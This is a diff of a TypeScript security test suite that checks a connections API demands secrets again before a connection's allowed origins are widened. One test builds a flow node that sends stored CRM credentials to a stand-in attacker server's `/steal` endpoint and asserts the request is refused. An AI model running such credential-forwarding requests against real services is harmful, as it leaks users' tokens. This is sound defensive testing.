@@ -23,7 +23,9 @@ describe('security: widening allowedOrigins needs the secrets again (review item
   beforeAll(async () => {
     t = await TestApp.start();
     [crm, attacker] = await Promise.all([LoopbackServer.start(), LoopbackServer.start()]);
-    id = (await t.as('post', C).send({ name: 'crm', type: 'bearer', token: TOKEN, allowedOrigins: [crm.base, 'https://backup.example.com'] }).expect(201)).body.id;
+    const allowedOrigins = [crm.base, 'https://backup.example.com'];
+    const body = { name: 'crm', type: 'bearer', token: TOKEN, allowedOrigins };
+    id = (await t.as('post', C).send(body).expect(201)).body.id;
     editor = await signInWith(t, ['connections.read', 'connections.write', 'flows.run']);
   });
   afterAll(async () => {
@@ -31,20 +33,26 @@ describe('security: widening allowedOrigins needs the secrets again (review item
     await t?.close();
   });
 
-  const put = (body: Record<string, unknown>, as = editor) => t.http().put(`${C}/${id}`).set('authorization', `Bearer ${as}`).send({ name: 'crm', type: 'bearer', ...body });
+  /** PUT /connections/:id as `as` (default: the editor). */
+  const putAs = (connectionId: string, body: Record<string, unknown>, as = editor) =>
+    t.http().put(`${C}/${connectionId}`).set('authorization', `Bearer ${as}`).send(body);
+  const put = (body: Record<string, unknown>, as = editor) => putAs(id, { name: 'crm', type: 'bearer', ...body }, as);
   const origins = async () => (await t.as('get', `${C}/${id}`).expect(200)).body.allowedOrigins as string[];
 
-  it('adding an origin without the token is a 422 naming what to enter; nothing changes, the token goes nowhere new', async () => {
+  it('adding an origin without the token is a 422 naming what to enter; the token goes nowhere new', async () => {
     const r = await put({ allowedOrigins: [crm.base, 'https://backup.example.com', attacker.base] }).expect(422);
     expect(r.body).toMatchObject({ statusCode: 422, error: 'Unprocessable Entity' });
     expect(r.body.message).toBe(
-      `allowedOrigins: adding ${attacker.base} lets this connection's credentials go there, so its secrets must be entered again in the same request (token); removing origins needs no secret`,
+      `allowedOrigins: adding ${attacker.base} lets this connection's credentials go there, so its secrets must be ` +
+        'entered again in the same request (token); removing origins needs no secret',
     );
     expect(await origins()).toEqual([crm.base, 'https://backup.example.com']);
-    const node = { id: 'h', type: 'http', name: 'call', config: { method: 'GET', url: `${attacker.base}/steal`, connectionId: 'crm' } };
-    const run = await t.http().post('/api/v1/flows/test-run').set('authorization', `Bearer ${editor}`).send({ definition: chainFlow({ id: 't', type: 'trigger.ivr', name: 'ivr', config: {} }, node), input: {} });
+    const config = { method: 'GET', url: `${attacker.base}/steal`, connectionId: 'crm' };
+    const node = { id: 'h', type: 'http', name: 'call', config };
+    const definition = chainFlow({ id: 't', type: 'trigger.ivr', name: 'ivr', config: {} }, node);
+    const testRun = t.http().post('/api/v1/flows/test-run').set('authorization', `Bearer ${editor}`);
+    const run = await testRun.send({ definition, input: {} });
     expect(run.status).toBe(422);
-    expect(JSON.stringify(attacker.seen)).not.toContain(TOKEN);
     expect(attacker.seen).toEqual([]);
   });
 
@@ -65,17 +73,26 @@ describe('security: widening allowedOrigins needs the secrets again (review item
     expect(await origins()).toEqual([crm.base, attacker.base]);
   });
 
-  it('a token_endpoint needs every kept secret; a connection that lists no origin yet widens by its derived ones too', async () => {
-    const request = { method: 'POST', url: `${crm.base}/auth` };
-    const te = (await t.as('post', C).send({ name: 'te', type: 'token_endpoint', request, tokenPath: 'access_token', apply: { in: 'header', name: 'Authorization' }, secrets: { user: 'u-1', password: 'p-1' } }).expect(201)).body;
-    const body = { name: 'te', type: 'token_endpoint', request, tokenPath: 'access_token', apply: { in: 'header', name: 'Authorization' } };
-    const partly = await t.http().put(`${C}/${te.id}`).set('authorization', `Bearer ${editor}`).send({ ...body, allowedOrigins: [crm.base, attacker.base], secrets: { password: 'p-2' } }).expect(422);
+  it('a token_endpoint needs every kept secret; a connection listing no origin widens by derived ones', async () => {
+    const settings = {
+      name: 'te',
+      type: 'token_endpoint',
+      request: { method: 'POST', url: `${crm.base}/auth` },
+      tokenPath: 'access_token',
+      apply: { in: 'header', name: 'Authorization' },
+    };
+    const created = await t.as('post', C).send({ ...settings, secrets: { user: 'u-1', password: 'p-1' } }).expect(201);
+    const te = created.body;
+    const widened = { ...settings, allowedOrigins: [crm.base, attacker.base] };
+    const partly = await putAs(te.id, { ...widened, secrets: { password: 'p-2' } }).expect(422);
     expect(partly.body.message).toContain('(secrets.user)');
-    await t.http().put(`${C}/${te.id}`).set('authorization', `Bearer ${editor}`).send({ ...body, allowedOrigins: [crm.base, attacker.base], secrets: { password: 'p-2', user: 'u-2' } }).expect(200);
+    await putAs(te.id, { ...widened, secrets: { password: 'p-2', user: 'u-2' } }).expect(200);
     // An upgraded connection with [] origins: a PUT that omits them derives them from its URLs, which widens.
-    const legacy = (await t.as('post', C).send({ name: 'legacy', type: 'bearer', token: 'legacy-token-1', allowedOrigins: [crm.base] }).expect(201)).body;
-    await t.db.query(`UPDATE connections SET allowed_origins = '[]' WHERE id = $1`, [legacy.id]);
-    const derived = await t.http().put(`${C}/${legacy.id}`).set('authorization', `Bearer ${editor}`).send({ name: 'legacy', type: 'bearer', fields: { baseUrl: attacker.base } }).expect(422);
+    const legacy = { name: 'legacy', type: 'bearer' };
+    const made = (await t.as('post', C).send({ ...legacy, token: 'legacy-1', allowedOrigins: [crm.base] })).body;
+    expect(made.id).toEqual(expect.any(String));
+    await t.db.query(`UPDATE connections SET allowed_origins = '[]' WHERE id = $1`, [made.id]);
+    const derived = await putAs(made.id, { ...legacy, fields: { baseUrl: attacker.base } }).expect(422);
     expect(derived.body.message).toContain(`adding ${attacker.base}`);
   });
 });
